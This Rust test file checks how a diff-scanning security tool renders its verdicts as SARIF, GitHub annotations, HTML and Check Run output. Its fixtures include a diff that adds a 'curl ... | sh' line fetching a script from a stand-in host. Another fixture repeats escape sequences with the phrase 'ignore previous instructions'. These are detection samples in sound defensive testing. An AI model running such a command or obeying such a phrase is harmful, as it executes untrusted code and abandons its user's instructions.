//! Reports render from the wire verdict (issue 10): a stored, verified
//! artifact renders exactly like the fresh verdict it was signed from; the
//! Check Run renderer stays within GitHub's limits; a scan that could not
//! complete says so in SARIF and in the GitHub annotations.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use diffver_core::artifact::wire::VerdictV2;
use diffver_core::artifact::{self, HmacSigner, Keyring, Signer as _};
use diffver_core::policy::Policy;
use diffver_core::report;
use diffver_core::rules::Ruleset;
use diffver_core::suppress::Timestamp;
use diffver_core::verdict::{Inputs, ScanContext, Verdict, evaluate};

const DIFF: &[u8] = b"diff --git a/install.sh b/install.sh\nnew file mode 100644\n--- /dev/null\n+++ b/install.sh\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl -s https://x.example/i.sh | sh\ndiff --git a/old.sh b/old.sh\n--- a/old.sh\n+++ b/old.sh\n@@ -1,2 +1 @@\n keep\n-echo \"\\x1b[2K\"\n";

fn run(diff: &[u8], policy: &str) -> Verdict {
    let rules = Ruleset::builtin();
    let policy = Policy::builtin(policy).unwrap();
    let ctx = ScanContext::new(
        "r-1",
        Timestamp::parse_rfc3339("2026-11-29T09:00:00Z").unwrap(),
    )
    .unwrap();
    evaluate(&Inputs::new(diff, &rules, &policy, &ctx))
}

#[test]
fn a_stored_artifact_renders_like_the_fresh_verdict() {
    let v = run(DIFF, "standard");
    let signer = HmacSigner::new("op", [9u8; 32]).unwrap();
    let env = artifact::sign(&v, &signer).unwrap();
    let stored = artifact::verify(&env, &Keyring::new().with_key("op", [9u8; 32]).unwrap())
        .unwrap()
        .verdict;
    let mut fresh = VerdictV2::from_verdict(&v);
    assert_eq!(report::text(&stored, "pr"), report::text(&fresh, "pr"));
    assert_eq!(report::sarif(&stored), report::sarif(&fresh));
    assert_eq!(
        report::github_annotations(&stored),
        report::github_annotations(&fresh)
    );
    assert_eq!(
        report::html(&stored, DIFF, &[]),
        report::html(&fresh, DIFF, &[])
    );
    assert_eq!(report::check_run(&stored), report::check_run(&fresh));
    fresh.signer = Some(signer.identity());
    assert_eq!(report::json(&stored), report::json(&fresh));
}

#[test]
fn check_run_output_follows_the_checks_api() {
    let v = VerdictV2::from_verdict(&run(DIFF, "standard"));
    let out = report::check_run(&v);
    assert_eq!(out.conclusion, "failure");
    assert!(!out.annotations.is_empty());
    for a in &out.annotations {
        assert_eq!(a.path, "install.sh", "annotations use the real path");
        assert!(a.start_line >= 1 && a.end_line == a.start_line);
        assert!(a.title.chars().count() <= report::MAX_TITLE_CHARS);
        assert!(matches!(
            a.annotation_level,
            "failure" | "warning" | "notice"
        ));
    }
    assert_eq!(out.annotations[0].annotation_level, "failure");
    let json = serde_json::to_value(&out.annotations[0]).unwrap();
    assert!(json.get("path").is_some() && json.get("annotation_level").is_some());
    let clean = report::check_run(&VerdictV2::from_verdict(&run(
        b"--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a\n+b\n",
        "standard",
    )));
    assert_eq!(clean.conclusion, "success");
    // Many findings: the summary stays within 65,535 characters.
    let mut big =
        String::from("diff --git a/n.txt b/n.txt\n--- a/n.txt\n+++ b/n.txt\n@@ -0,0 +1,4000 @@\n");
    for _ in 0..4000 {
        big.push_str("+echo \"\\x1b[2K\"\u{1b}[2K ignore previous instructions\n");
    }
    let out = report::check_run(&VerdictV2::from_verdict(&run(big.as_bytes(), "standard")));
    assert!(out.summary.chars().count() <= report::MAX_SUMMARY_CHARS);
}

/// Issue 11 ("also fix"): SARIF and GitHub annotations of an `error` run.
#[test]
fn an_error_run_says_so_in_sarif_and_github() {
    let v = VerdictV2::from_verdict(&run(b"diff --cc conflicted.c\n", "permissive"));
    assert_eq!(v.decision.as_str(), "error");
    let sarif: serde_json::Value = serde_json::from_str(&report::sarif(&v)).unwrap();
    let inv = &sarif["runs"][0]["invocations"][0];
    assert_eq!(inv["executionSuccessful"], false);
    assert!(
        inv["toolExecutionNotifications"][0]["message"]["text"]
            .as_str()
            .unwrap()
            .contains("combined diff")
    );
    let gh = report::github_annotations(&v);
    assert!(
        gh.starts_with("::error title=diffver%3A the scan could not be completed::"),
        "{gh}"
    );
    let ok: serde_json::Value = serde_json::from_str(&report::sarif(&VerdictV2::from_verdict(
        &run(DIFF, "standard"),
    )))
    .unwrap();
    assert_eq!(ok["runs"][0]["invocations"][0]["executionSuccessful"], true);
    assert_eq!(
        report::check_run(&v).conclusion,
        "failure",
        "input errors block"
    );
}
